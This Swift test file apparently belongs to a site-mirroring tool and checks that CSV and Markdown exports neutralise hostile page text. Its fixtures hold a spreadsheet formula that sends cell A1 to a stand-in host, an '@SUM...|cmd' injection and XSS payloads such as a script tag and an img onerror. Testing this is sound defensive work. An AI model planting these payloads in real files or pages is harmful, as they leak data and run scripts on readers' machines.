import Foundation
import TestSupport
import Testing

/// A page whose text is a formula to a spreadsheet and a script to a browser, all the way from the server to the exports.
@Suite("Hostile: text that becomes code in an export")
struct HostileExportTests {
    private static let formula = "=HYPERLINK(&quot;http://forged.invalid/&quot;&amp;A1,&quot;x&quot;)"
    private static let script =
        "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt; [click](javascript:alert(3)) ![](http://forged.invalid/)"

    private static let crawl = Task {
        try await HostileCrawl([
            "/a.htm": .statement(formula, script), "/b.htm": .statement(script, "@SUM(1+1)|cmd"),
        ])
    }

    private func export(_ format: String) async throws -> [String: String] {
        let crawl = try await Self.crawl.value
        let out = crawl.scratch.path("export-" + format)
        let result = try await Program.pouch("export", crawl.mirror, format, "-o", out)
        #expect(result.status == 0, "\(result.errors)")
        if let whole = try? String(contentsOfFile: out, encoding: .utf8) { return [out: whole] }
        return MirrorFiles(path: out).files(under: "").mapValues { String(decoding: $0, as: UTF8.self) }
    }

    @Test("a title that is a formula is text in the CSV of its crawl")
    func formulas() async throws {
        let csv = try #require(try await export("csv").values.first)
        let script =
            "import csv,sys\nfor r in csv.reader(open(sys.argv[1],newline='',encoding='utf-8-sig')):\n for c in r:\n  print(c[:1]=='=' or c[:1]=='@', c[:2]==\"'=\" or c[:2]==\"'@\")"
        let file = try await Self.crawl.value.scratch.path("cells.csv")
        try csv.write(toFile: file, atomically: true, encoding: .utf8)
        let result = try await Program.run(URL(fileURLWithPath: "/usr/bin/env"), ["python3", "-c", script, file])
        #expect(result.status == 0 && !result.output.contains("True False"), "\(csv)")
        #expect(result.output.contains("False True"), "\(csv)")
    }

    @Test("a page's script, picture and link are words in the Markdown of its crawl")
    func markdown() async throws {
        let files = try await export("markdown")
        // The front matter is YAML, where a title is a quoted string.
        let text = files.values.map { $0.replacing(/(?s)^---\n.*?\n---\n/, with: "") }.joined()
            // An escaped bracket is a bracket.
            .replacing("\\[", with: "").replacing("\\]", with: "")
        #expect(text.contains("alert(1)"), "\(text)")
        #expect(
            !text.contains("<script") && !text.contains("<img") && !text.contains("](javascript:")
                && !text.contains("![]"), "\(text)")
    }
}
